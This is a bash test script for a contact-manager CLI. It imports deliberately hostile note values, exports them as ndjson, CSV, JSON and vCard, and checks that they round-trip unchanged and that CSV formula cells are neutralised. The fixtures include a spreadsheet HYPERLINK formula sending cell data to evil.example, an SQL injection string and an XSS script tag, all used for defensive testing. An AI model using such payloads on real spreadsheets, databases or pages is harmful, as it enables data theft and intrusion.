#!/usr/bin/env bash
# Export (issue 5) and the round trip: hostile notes byte for byte through import, ndjson
# export and import again; CSV neutralisation; vCard; private files.
. "$(dirname "$0")/lib.sh"
export KT_TODAY=2025-06-01

new_ws shop --example pet-shop
LONG=$(head -c 70000 /dev/zero | tr '\0' 'x')
# hostile notes, generated with python so every byte is exactly what we mean
python3 - "$LONG" <<'PY'
import csv, sys
notes = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "'; DROP TABLE person; --",
         '<script>alert("x")</script>', 'line one\nline two\r\nline three', 'she said "hi", then \'bye\'',
         sys.argv[1], '+48 123', '@SUM(A1:A9)', '-2+3']
with open('hostile.csv', 'w', newline='') as f:
    w = csv.writer(f, lineterminator='\r\n')
    w.writerow(['external_id','first_name','last_name','gender','birth_date','email','mobile','city','street',
                'postal_code','country','company','pets','expected_gifts','source','marital_status',
                'marketing_consent','notes'])
    for i, n in enumerate(notes):
        w.writerow([f'H{i}', 'Ola', f'Lis{i}', 'F', '1990-01-02', f'h{i}@example.com', '', '', '', '', 'PL', '',
                    'dog', 'book', '', '', '', n])
    for i, n in enumerate(notes):
        open(f'note{i}.txt', 'w', newline='').write(n)
PY
expect 0 import hostile.csv --script imports/persons.lua --json
equals "$(jqget "$OUT" .created)" 9 "hostile rows imported"
check_notes() { # check_notes WHAT: every stored note equals its file byte for byte
  for i in 0 1 2 3 4 5 6 7 8; do
    id=$(jqget "$("$KT" list person --where external_id=H$i --json)" '.[0].id')
    "$KT" get "$id" --json | jq -j .notes > "got$i.txt"
    if cmp -s "got$i.txt" "note$i.txt"; then pass; else fail "$1: note $i differs"; fi
  done
}
check_notes "import"
equals "$(sqlite3 kartoteka.db 'SELECT count(*) FROM person')" 9 "SQL in a note ran nowhere"

# --- ndjson export, re-imported into a fresh workspace unchanged
expect 0 export --show-pii person --format ndjson --out people.ndjson
equals "$(stat -c %a people.ndjson)" 600 "export file is private"
equals "$(wc -l < people.ndjson)" 9 "one line per record"
expect 0 export --show-pii person --format ndjson
equals "$OUT" "$(cat people.ndjson)" "stdout and --out agree"
cp people.ndjson note*.txt "$TMP/"
new_ws copy --example pet-shop
cp "$TMP"/note*.txt .
expect 0 import "$TMP/people.ndjson" --json
equals "$(jqget "$OUT" '[.created,.rejected] | join(" ")')" "9 0" "ndjson import without a script"
check_notes "ndjson round trip"
expect 0 export --show-pii person --format ndjson
equals "$(printf '%s\n' "$OUT" | jq -c 'del(.id)')" "$(jq -c 'del(.id)' "$TMP/people.ndjson")" \
  "export -> import -> export gives the same records"
expect 0 import "$TMP/people.ndjson" --json
equals "$(jqget "$OUT" '[.created,.skipped] | join(" ")')" "0 9" "re-import creates nothing"

# --- CSV: formula cells neutralised unless --raw; quoting keeps newlines
expect 0 export --show-pii person --format csv --out people.csv
python3 - <<'PY' || fail "csv export"
import csv
rows = {r['external_id']: r for r in csv.DictReader(open('people.csv', newline=''))}
assert rows['H0']['notes'].startswith("'=HYPERLINK"), rows['H0']['notes']
assert rows['H7']['notes'] == "'@SUM(A1:A9)", rows['H7']['notes']
assert rows['H3']['notes'] == 'line one\nline two\r\nline three'
assert rows['H6']['notes'] == '+48 123' or rows['H6']['notes'] == "'+48 123"
assert len(rows['H5']['notes']) == 70000
PY
pass
expect 0 export --show-pii person --format csv --raw
contains "$OUT" '"=HYPERLINK(""http' "--raw keeps formulas"
expect 0 export --show-pii person --format json
equals "$(jqget "$OUT" 'length')" 9 "json export is an array"
expect 0 export --show-pii person --where external_id=H1 --format vcf
contains "$OUT" "BEGIN:VCARD" "vcard"
contains "$OUT" "FN:Ola Lis1" "vcard name"
contains "$OUT" "EMAIL;TYPE=work:h1@example.com" "vcard email"
expect 64 export person --format xml
finish
